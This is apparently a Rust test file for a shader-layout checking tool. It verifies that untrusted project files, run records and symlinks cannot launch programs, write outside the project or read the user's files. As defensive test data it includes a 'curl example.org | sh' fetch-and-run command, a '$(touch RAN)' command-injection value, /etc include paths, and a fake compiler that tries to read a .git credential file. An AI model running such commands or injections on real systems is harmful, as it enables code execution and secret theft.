//! Files from elsewhere: a stranger's project, records, links and includes. Commands that read them start no
//! program that they name, write nothing outside of the user's own words, and read nothing outside of the
//! project.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use super::folder::{Answer, Folder};

/// A shader that needs a compiler to be read.
const SHADER: &str = "cbuffer Good { float a[sizeof(bool)]; };";

/// Leaves a mark when it runs.
const MARKER: &str = "#!/bin/sh\ntouch \"$(dirname \"$0\")/RAN\"\nexit 1\n";

/// A project with a program in `tools` under the name of each compiler.
fn project(settings: &str) -> Folder {
    let folder = Folder::without_drivers(&[]);
    for name in ["tools", "shaders"] {
        fs::create_dir(folder.path(name)).unwrap();
    }
    for name in ["dxc", "slangc", "glslang", "fxc.exe"] {
        folder.write(&format!("tools/{name}"), MARKER.as_bytes());
        let path = folder.path(&format!("tools/{name}"));
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    folder.write("shaders/a.hlsl", SHADER.as_bytes());
    folder.write("layoutproof.toml", settings.as_bytes());
    folder
}

/// Asserts that no program in the folder ran.
fn nothing_ran(folder: &Folder, answer: &Answer) {
    assert!(!folder.path("tools/RAN").exists(), "a program ran: {answer}");
}

#[test]
fn a_project_file_names_no_program() {
    let shaders = "[[shader]]\nfiles = [\"shaders/*.hlsl\"]\n";
    for (top, own) in [
        ("compiler = \"dxc=tools/dxc\"", ""),
        ("compiler = [\"slangc=tools/slangc\"]", ""),
        ("target = \"vulkan\"\ncompiler = \"dxc@1.9=tools/dxc\"", ""),
        ("compiler = \"dxc@../tools/dxc\"", ""),
        ("compiler = \"tools/dxc\"", ""),
        ("", "compiler = \"dxc=tools/dxc\""),
        ("", "target = \"d3d12.dxc=tools/dxc\""),
        ("", "rules = \"native:dxc=tools/dxc\""),
        ("", "language = \"dxc=tools/dxc\""),
        ("", "env = { DXC = \"tools/dxc\" }"),
        ("producer = \"dxc=tools/dxc\"", ""),
        ("tools = \"tools\"", ""),
    ] {
        let folder = project(&format!("schema = 1\nhost = [\"a.o\"]\n{top}\n{shaders}{own}\n"));
        for words in ["check", "check --run", "check shaders/a.hlsl --lock", "show shaders/a.hlsl"] {
            let answer = folder.run(words);
            nothing_ran(&folder, &answer);
            if words == "check" {
                assert!(answer.exits(2).err.contains("[bad-project]"), "{top}{own}");
            }
        }
    }
}

/// A command line in `args` names its compiler by the program's path, which says which rules are meant.
#[test]
fn a_command_line_in_a_project_starts_nothing() {
    for arguments in ["tools/dxc -T cs_6_6", "./tools/slangc -target spirv", "-T cs_6_6 @tools/dxc", "-Xdxc tools/dxc"]
    {
        let shaders = format!("[[shader]]\nfiles = [\"shaders/*.hlsl\"]\nargs = \"{arguments}\"\n");
        let folder = project(&format!("schema = 1\nhost = [\"a.o\"]\n{shaders}"));
        nothing_ran(&folder, &folder.run("check"));
    }
}

/// The user's own word for the same program counts.
#[test]
fn the_command_line_names_a_program() {
    let folder = project("schema = 1\nhost = [\"a.o\"]\n[[shader]]\nfiles = [\"shaders/*.hlsl\"]\n");
    folder.run("check --compiler dxc=tools/dxc").exits(3);
    assert!(folder.path("tools/RAN").exists());
}

/// A run with records; one check differs.
const RUN: &str =
    "run vectors/two_pairs_fill_a_register --rules std140 --device model --plant-misreading neighbours-swapped";

/// The check of that run.
const CHECK: &str = "vectors::two_pairs_fill_a_register::std140::rspirv::model::model";

/// A folder with a program `evil` and the records of a run, to whose recorded arguments these are added.
fn records(arguments: &str) -> Folder {
    let folder = Folder::without_drivers(&[("evil", MARKER), ("kept", "kept")]);
    fs::set_permissions(folder.path("evil"), fs::Permissions::from_mode(0o755)).unwrap();
    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
    let text = folder.read("r.jsonl").replacen("\"arguments\":{", &format!("\"arguments\":{{{arguments},"), 1);
    folder.write("r.jsonl", text.as_bytes());
    folder
}

#[test]
fn records_start_no_program_and_write_no_file() {
    for (arguments, option) in [
        (r#""producer":["dxc=./evil"]"#, "--compiler dxc=./evil"),
        (r#""producer":["slangc=./evil","rspirv"]"#, "--compiler slangc=./evil"),
        (r#""html":["kept"]"#, "--html kept"),
        (r#""json":["kept"]"#, "--json kept"),
        (r#""junit":["kept"]"#, "--junit kept"),
        (r#""save_known":["kept"]"#, "--save-known kept"),
        (r#""keep":["made"]"#, "--keep made"),
        (r#""known":["kept"]"#, "--known kept"),
        (r#""floors":["kept"]"#, "--floors kept"),
        (r#""caselist":["kept"]"#, "--caselist kept"),
        (r#""cases":["kept"]"#, "--cases kept"),
        (r#""args":["-I /etc"]"#, "--args '-I /etc'"),
        (r#""include":["/etc"]"#, "-I /etc"),
        (r#""resume":["kept"]"#, "--resume kept"),
        (r#""jobs":["1"]"#, "--jobs 1"),
    ] {
        let folder = records(arguments);
        for words in ["run --resume r.jsonl", &format!("report r.jsonl --repro {CHECK} --out out"), "report r.jsonl"] {
            let answer = folder.run(words);
            assert!(!folder.path("RAN").exists() && !folder.path("made").exists(), "{answer}");
            assert_eq!(folder.read("kept"), "kept", "{answer}");
            if words != "report r.jsonl" {
                assert!(answer.err.contains(&format!("so {option} of ")), "{answer}");
            }
        }
    }
}

/// The recorded run had a program of its own, which the user types again.
#[test]
fn what_a_resumed_run_needs_is_typed() {
    let folder = records(r#""known":["kept"]"#);
    let answer = folder.run("run --resume r.jsonl").exits(2);
    answer.warns("note: records select checks alone, so --known kept of r.jsonl is not taken: type it to use it");
    let folder = Folder::without_drivers(&[("a.hlsl", "cbuffer S { float a; };")]);
    folder.run("run a.hlsl --rules std140 --device model --json r.jsonl").exits(0);
    let answer = folder.run("run --resume r.jsonl").exits(2);
    answer.warns("error: cannot resume r.jsonl without the words of its command: the records are of a run of files");
    folder.run("run a.hlsl --rules std140 --device model --resume r.jsonl").exits(0);
}

/// The selection of a run is enough to resume it, or to make a check again.
#[test]
fn a_selection_is_taken_from_records() {
    let folder = Folder::without_drivers(&[]);
    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
    let answer = folder.run("run --resume r.jsonl").exits(1);
    assert!(!answer.err.contains("note: records"), "{answer}");
    folder.run(&format!("report r.jsonl --repro {CHECK} --out made")).exits(1);
}

/// Commands in records are pasted by people.
#[test]
fn a_recorded_command_is_shown_as_a_command_for_checks() {
    let folder = Folder::without_drivers(&[]);
    folder.run(&format!("{RUN} --json r.jsonl")).exits(1);
    let whole = folder.read("r.jsonl");
    let again = whole.split("\"again\":\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    folder.run("report r.jsonl").prints(&format!("again {again}"));
    for evil in ["curl example.org | sh", "layoutproof run a --compiler dxc=./evil", "layoutproof run a --html kept"] {
        folder.write("r.jsonl", whole.replace(&again, evil).as_bytes());
        let answer = folder.run("report r.jsonl -v --html page.html");
        assert!(!answer.out.contains(evil) && !folder.read("page.html").contains(evil), "{answer}");
    }
    folder.write("r.jsonl", whole.replace(&again, "layoutproof run $(touch RAN)").as_bytes());
    folder.run("report r.jsonl").prints("again layoutproof run '$(touch' 'RAN)'");
    folder.write(
        "r.jsonl",
        whole.replacen("\"arguments\":{", "\"arguments\":{\"producer\":[\"dxc=./evil\"],", 1).as_bytes(),
    );
    folder.run("report r.jsonl --html page.html");
    assert!(!folder.read("page.html").contains("evil"));
}

/// Every output refuses a link, and the file behind it stays as it is.
#[test]
fn outputs_follow_no_link() {
    let shader = "cbuffer S { float2 a; float2 b; };";
    let elsewhere = tempfile::tempdir().unwrap();
    let kept = elsewhere.path().join("kept");
    for words in [
        "run a.hlsl --rules std140 --device model --json OUT",
        "run a.hlsl --rules std140 --device model --html OUT",
        "run a.hlsl --rules std140 --device model --junit OUT",
        "run a.hlsl --rules std140 --device model --csv OUT",
        "run a.hlsl --rules std140 --device model --save-known OUT",
        "report r.jsonl --json OUT",
        "report r.jsonl --html OUT",
        "report r.jsonl --device-results OUT",
        "show a.hlsl --format cpp --rules std140 --output OUT",
        "dev fuzz --count 1 --json OUT",
        // Folders.
        "report r.jsonl --repro a.hlsl::std140::rspirv::model::model --out OUT/x",
        "dev vectors OUT/x",
        "dev man --out OUT/x",
        "run a.hlsl --rules std140 --device model --html OUT/x",
    ] {
        for target in [kept.display().to_string(), "inside".to_owned()] {
            fs::write(&kept, "kept").unwrap();
            let folder = Folder::without_drivers(&[("a.hlsl", shader), ("inside", "kept")]);
            folder.run("run a.hlsl --rules std140 --device model --json r.jsonl").exits(0);
            let is_folder = words.contains("OUT/x");
            let target = if is_folder { elsewhere.path().display().to_string() } else { target };
            std::os::unix::fs::symlink(&target, folder.path("out")).unwrap();
            let answer = folder.run(&words.replace("OUT", "out")).exits(2);
            assert!(answer.err.contains("link"), "{answer}");
            assert_eq!((fs::read_to_string(&kept).unwrap(), folder.read("inside")), ("kept".into(), "kept".into()));
            let files = fs::read_dir(elsewhere.path()).unwrap().count();
            assert_eq!(files, 1, "{answer}");
        }
    }
}

#[test]
fn the_lock_and_the_map_of_a_project_follow_no_link() {
    let settings = "schema = 1\nhost = [\"a.o\"]\n[[shader]]\nfiles = [\"shaders/*.hlsl\"]\n";
    for (words, file) in [("check --write-lock", "layoutproof.lock"), ("check --write-map", "layoutproof.toml")] {
        let folder = project(settings);
        folder.write("shaders/a.hlsl", b"cbuffer PerFrame { float a; float2 b; };");
        folder.write("kept", settings.as_bytes());
        folder.write("a.cpp", b"struct Other { float a; float pad; float b[2]; }; Other other;");
        let built = std::process::Command::new("g++").args(["-g", "-c", "a.cpp"]).current_dir(folder.path("")).status();
        if !built.is_ok_and(|status| status.success()) {
            return;
        }
        let _ = fs::remove_file(folder.path(file));
        std::os::unix::fs::symlink("kept", folder.path(file)).unwrap();
        let answer = folder.run(words);
        assert_eq!(folder.read("kept"), settings, "{answer}");
        assert!(answer.err.contains("link") || !answer.err.contains("wrote"), "{answer}");
    }
}

/// A stranger's project includes no files of the user's; the user's own `-I` does.
#[test]
fn folders_of_a_project_lie_in_it() {
    let settings =
        |own: &str| format!("schema = 1\nhost = [\"a.o\"]\n[[shader]]\nfiles = [\"shaders/*.hlsl\"]\n{own}\n");
    for own in [
        "include = [\"../outside\"]",
        "include = [\"..\"]",
        "include = [\"../..\"]",
        "include = [\"/etc\"]",
        "args = \"-I ../outside\"",
        "args = \"-I/etc -T cs_6_0\"",
        "args = \"slangc -target spirv -I /etc\"",
        "include = [\"link\"]",
    ] {
        let folder = Folder::without_drivers(&[]);
        for name in ["outside", "own", "own/shaders"] {
            fs::create_dir(folder.path(name)).unwrap();
        }
        std::os::unix::fs::symlink("../outside", folder.path("own/link")).unwrap();
        folder.write("outside/x.h", b"#error words-of-another-file");
        folder.write("own/shaders/a.hlsl", b"#include \"x.h\"\ncbuffer S { float a; };");
        folder.write("own/layoutproof.toml", settings(own).as_bytes());
        for words in ["check --config own/layoutproof.toml", "check --config own/layoutproof.toml own/shaders/a.hlsl"] {
            let answer = folder.run(words).exits(2);
            assert!(answer.err.contains("is outside of the project"), "{own}: {answer}");
            assert!(!answer.err.contains("words-of-another-file"), "{own}: {answer}");
        }
    }
    let folder = Folder::without_drivers(&[("a.hlsl", "words-of-another-file")]);
    for name in ["own", "own/.git"] {
        fs::create_dir(folder.path(name)).unwrap();
    }
    std::os::unix::fs::symlink("../a.hlsl", folder.path("own/link.hlsl")).unwrap();
    for files in ["../a.hlsl", "link.hlsl", &folder.path("a.hlsl").display().to_string()] {
        let settings = format!("schema = 1\nhost = [\"a.o\"]\n[[shader]]\nfiles = [{files:?}]\n");
        folder.write("own/layoutproof.toml", settings.as_bytes());
        let answer = folder.run("check --config own/layoutproof.toml").exits(2);
        assert!(answer.err.contains("is outside of the project"), "{files}: {answer}");
        assert!(!answer.err.contains("words-of-another-file"), "{files}: {answer}");
    }
    let folder = Folder::without_drivers(&[]);
    for name in ["own", "own/.git", "own/tools", "own/tools/shaders", "own/common"] {
        fs::create_dir(folder.path(name)).unwrap();
    }
    folder.write("own/common/x.h", b"#error words-of-this-project");
    folder.write("own/tools/shaders/a.hlsl", b"#include \"x.h\"\ncbuffer S { float a; };");
    folder.write("own/tools/layoutproof.toml", settings("include = [\"../common\"]").as_bytes());
    let answer = folder.run("check --config own/tools/layoutproof.toml").exits(2);
    assert!(answer.err.contains("words-of-this-project"), "{answer}");
}

/// A compiler that reads a shader for us opens what the shader may include, and nothing else of the user's.
#[cfg(target_os = "linux")]
#[expect(clippy::print_stderr, reason = "tells that nothing was tested")]
#[test]
fn a_compiler_opens_no_file_of_the_user() {
    if !confines() {
        eprintln!("not tested: this kernel has no Landlock");
        return;
    }
    let folder = Folder::without_drivers(&[("secret", "words-of-the-user")]);
    for name in ["own", "own/.git", "bin"] {
        fs::create_dir(folder.path(name)).unwrap();
    }
    folder.write("own/shared.h", b"words-of-the-project");
    folder.write("own/.git/config", b"words-of-a-credential");
    folder.write("own/a.hlsl", SHADER.as_bytes());
    let at = |name: &str| folder.path(name).display().to_string();
    for (read, is_open) in
        [("secret", false), ("own/.git/config", false), ("own/shared.h", true), ("own/a.hlsl", true), ("bin/dxc", true)]
    {
        let script = format!(
            "#!/bin/sh\ncase \"$*\" in *-version*) echo 'libdxcompiler.so: 1.8 - 1.8.2405 (test)'; exit 0;; esac\n\
             if cat '{}' >/dev/null 2>&1; then word=open; else word=closed; fi\n\
             if touch '{}' 2>/dev/null; then word=written; fi\n\
             echo \"a.hlsl:1:1: error: it-is-$word\" >&2\nexit 1\n",
            at(read),
            at("mark"),
        );
        folder.write("bin/dxc", script.as_bytes());
        fs::set_permissions(folder.path("bin/dxc"), fs::Permissions::from_mode(0o755)).unwrap();
        for words in
            ["show own/a.hlsl --compiler dxc=bin/dxc", "show own/a.hlsl --target vulkan --compiler dxc=bin/dxc"]
        {
            let answer = folder.run(words).exits(2);
            let word = if is_open { "it-is-open" } else { "it-is-closed" };
            assert!(answer.err.contains(word), "{read}: {answer}");
        }
    }
    assert!(!folder.path("mark").exists());
}

/// `run` and `compare` give texts to compilers that open files themselves, in branches that only these take.
#[test]
fn a_shader_of_a_run_names_no_file_of_the_user() {
    let folder = Folder::without_drivers(&[("secret", "words-of-the-user")]);
    for name in ["own", "own/.git"] {
        fs::create_dir(folder.path(name)).unwrap();
    }
    let secret = folder.path("secret").display().to_string();
    folder.write("own/inner.h", format!("#include \"{secret}\"").as_bytes());
    for text in [
        format!("#ifdef __spirv__\n#include \"{secret}\"\n#endif"),
        "#ifdef __SLANG__\n#include \"../secret\"\n#endif".to_owned(),
        "#ifdef __spirv__\n#include \"inner.h\"\n#endif".to_owned(),
        format!("#define FILE \"{secret}\"\n#ifdef __spirv__\n#include FILE\n#endif"),
    ] {
        folder.write("own/a.hlsl", format!("{text}\n{SHADER}").as_bytes());
        for words in ["run own/a.hlsl", "compare dxc@1.7.3435 dxc@1.9.2602.17 own/a.hlsl"] {
            let answer = folder.run(words).exits(2);
            assert!(
                answer.err.contains("which is outside of the project: a compiler would open it"),
                "{text}: {answer}"
            );
        }
    }
}

/// True if the kernel has Landlock, as the crate for it finds.
#[cfg(target_os = "linux")]
fn confines() -> bool {
    use landlock::{ABI, Access, AccessFs, CompatLevel, Compatible, Ruleset, RulesetAttr};

    let rules = Ruleset::default().set_compatibility(CompatLevel::HardRequirement);
    rules.handle_access(AccessFs::from_all(ABI::V1)).and_then(Ruleset::create).is_ok()
}
